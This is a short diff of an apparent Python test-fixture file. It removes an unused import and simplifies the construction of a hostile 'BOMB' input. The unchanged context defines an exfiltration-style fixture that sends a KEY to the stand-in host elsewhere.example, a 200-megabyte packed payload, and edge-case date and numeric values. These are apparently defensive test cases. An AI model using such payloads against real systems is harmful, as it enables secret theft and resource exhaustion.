@@ -3,7 +3,6 @@
 import json
 import math
 from collections.abc import Callable
-from functools import partial
 from typing import Any
 
 import pandas as pd
@@ -82,7 +81,7 @@ def far_cells() -> bytes:
 
 
 ELSEWHERE = Hostile(sent_on(f"http://elsewhere.example/{KEY}"))
-BOMB = Hostile(partial(packed(2, size=200_000_000)))
+BOMB = Hostile(packed(2, size=200_000_000))
 FREDS = [
     fred("9999-12-31", 1.0),
     fred("2026-08-19", "1e999"),
